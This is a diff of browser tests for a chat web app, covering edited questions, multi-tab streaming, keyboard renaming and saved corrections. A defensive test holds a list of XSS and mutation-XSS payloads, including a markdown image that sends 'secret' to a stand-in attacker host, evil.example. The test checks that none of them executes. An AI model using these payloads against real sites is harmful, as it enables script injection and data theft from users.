@@ -69,14 +69,91 @@ def test_answering_again_keeps_both(visit: Any) -> None:
     expect(page.locator("#thread .siblings")).to_contain_text("1/2")
 
 
+def test_an_edited_question_keeps_the_first_one_beside_it(visit: Any) -> None:
+    page = visit().open()
+    _ask(page, ENGLISH)
+    page.locator("#thread .user").hover()
+    page.locator("#thread .user [data-local=form]").click()
+    page.locator("#thread .user textarea").fill("Where are the lockers?")
+    page.keyboard.press("Control+Enter")
+    expect(page.locator("#thread .user .siblings")).to_contain_text("2/2")
+    expect(page.locator("#thread .user .said")).to_have_text("Where are the lockers?")
+    expect(page.locator("#chats .chat.on > a")).to_have_text("Where are the lockers?")
+    page.locator("#thread .assistant .foot").wait_for()
+    page.locator("#thread .user [data-act=branch]").first.click()
+    expect(page.locator("#thread .user .said")).to_have_text(ENGLISH)
+    expect(page.locator("#thread .assistant")).to_have_count(1)
+
+
+def test_an_answer_goes_on_without_its_tab_and_any_tab_stops_it(visit: Any) -> None:
+    person = visit()
+    page = person.open()
+    page.locator("#composer textarea").fill("Please count while I am away")
+    page.keyboard.press("Enter")
+    expect(page.locator("#live .said")).to_contain_text("5")
+    expect(page).to_have_url(re.compile(r"\?c="))
+    address = page.url
+    written = len(page.locator("#live .said").inner_text())
+    page.close()
+    again = person.context.new_page()
+    again.goto(address)
+    expect(again.locator("#live .said")).to_contain_text("15")
+    assert len(again.locator("#live .said").inner_text()) > written
+    other = person.context.new_page()
+    other.goto(address)
+    other.locator("#stop").click()
+    for tab in (again, other):
+        expect(tab.locator("#thread .assistant .notes")).to_contain_text("Stopped")
+        expect(tab.locator("#live .turn")).to_have_count(0)
+
+
+def test_two_tabs_on_one_chat_show_the_same(visit: Any) -> None:
+    person = visit()
+    page = person.open()
+    _ask(page, ENGLISH)
+    other = person.context.new_page()
+    other.goto(page.url)
+    other.locator("#thread .assistant .foot").wait_for()
+    _ask(other, "Where are the lockers?")
+    expect(page.locator("#thread .user .said")).to_have_text([ENGLISH, "Where are the lockers?"])
+    expect(page.locator("#thread .assistant .foot")).to_have_count(2)
+    expect(page.locator("#send")).to_have_text("Send")
+
+
+def test_a_chat_is_found_opened_and_renamed_by_keyboard(visit: Any) -> None:
+    page = visit().open()
+    _ask(page, "Rename me by keyboard")
+    page.locator("#new-chat").click()
+    expect(page.locator(".welcome")).to_be_visible()
+    page.keyboard.press("Control+k")
+    page.keyboard.type("by keyboard")
+    expect(page.locator("#chats .chat")).to_have_count(1)
+    page.keyboard.press("ArrowDown")
+    page.keyboard.press("Enter")
+    expect(page.locator("#thread .user .said")).to_have_text("Rename me by keyboard")
+    page.locator("#chats .chat > a").focus()
+    page.keyboard.press("Tab")
+    page.keyboard.press("Enter")
+    page.keyboard.type("My keyboard by chat")
+    page.keyboard.press("Enter")
+    page.locator("#search-chats input").fill("")
+    expect(page.locator("#chats .chat.on > a")).to_have_text("My keyboard by chat")
+
+
 def test_correction_and_thumb_are_kept(visit: Any, server: Any) -> None:
     page = visit("ko").open()
     answer = _ask(page, KOREAN)
     message = str(answer.get_attribute("data-message"))
-    answer.locator("[data-local=correct]").click()
-    answer.locator("textarea").fill("처음 30분은 무료예요")
+    answer.locator("[data-local=form]").click()
+    field = answer.locator("textarea")
+    field.fill(f"{field.input_value()} 처음 30분은 무료예요")
+    expect(answer.locator(".own-form ins")).to_have_text(["처음", "30분은", "무료예요"])
+    field.fill("처음 30분은 무료예요")
     answer.locator("[data-act=save]").click()
     expect(page.locator("#thread .correction")).to_contain_text("학습 예시로 저장했어요")
+    page.locator("#thread [data-act=kept]").click()
+    expect(page.locator("#viewer .document")).to_contain_text("처음 30분은 무료예요")
+    page.keyboard.press("Escape")
     page.locator("#thread [data-act=up]").click()
     expect(page.locator("#thread [data-act=up]")).to_have_attribute("aria-pressed", "true")
     store = Store(server.home / "joyul.sqlite")
@@ -130,13 +207,35 @@ def test_what_was_sent_survives_kill(visit: Any, server: Any) -> None:
     expect(page.locator("#thread .assistant .notes")).to_be_visible()
 
 
-def test_hostile_text_runs_nothing(visit: Any) -> None:
+PAYLOADS = [
+    "<script>window.hit=1</script>",
+    "<img src=x onerror=window.hit=1> ![x](https://evil.example/y.png)",
+    "<svg><style><img src=x onerror=window.hit=1></style></svg>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=1>",
+    "[x](javascript:window.hit=1) [y](data:text/html;base64,PHNjcmlwdD4=) <javascript:window.hit=1>",
+    "![a](https://evil.example/?q=secret) [![b](https://evil.example/c.png)](https://evil.example)",
+    "\"><iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
+    "<a href=https://evil.example onmouseover=window.hit=1 style=position:fixed;inset:0>x</a>",
+    "<link rel=stylesheet href=//evil.example/a.css><base href=//evil.example/><meta http-equiv=refresh content=0>",
+    "```html\n</code></pre><script>window.hit=1</script>\n```",
+    "| a |\n|---|\n| <img src=x onerror=window.hit=1> |",
+    "{{constructor.constructor('window.hit=1')()}} ${window.hit=1} %3Cscript%3E",
+    "\u202e<x onclick=window.hit=1>\u2066 &lt;script&gt;window.hit=1&lt;/script&gt;",
+]
+
+
+def test_hostile_text_runs_nothing_and_fetches_nothing(visit: Any, server: Any) -> None:
     page = visit().open()
-    image = "<img src=https://evil.example/x onerror='window.hit=1'> ![x](https://evil.example/y.png)"
-    attack = f"hello {image} <script>window.hit=1</script>"
     page.locator("#variant input").click()
     page.get_by_role("option", name="zero-shot", exact=False).first.click()
-    answer = _ask(page, "echo " + attack)
-    expect(answer.locator(".said")).to_contain_text("<script>")
+    for number, payload in enumerate(PAYLOADS):  # as a question, an answer that repeats it, and a title
+        page.locator("#composer textarea").fill("echo " + payload)
+        page.keyboard.press("Enter")
+        page.locator("#thread .assistant .foot").nth(number).wait_for()
     assert page.evaluate("window.hit") is None
-    assert page.locator("#thread img").count() == 0
+    made = "img, script, iframe, svg:not(.j-icon), style, link, base, form, math, [onerror], [onclick], [onmouseover]"
+    assert page.locator("#thread, #chats").locator(made).count() == 0
+    assert page.locator("#thread a:not([href^=http])").count() == 0
+    page.locator("#thread .user [data-local=form]").first.evaluate("button => button.click()")
+    page.locator("#thread .assistant [data-local=form]").first.evaluate("button => button.click()")
+    assert page.evaluate("window.hit") is None
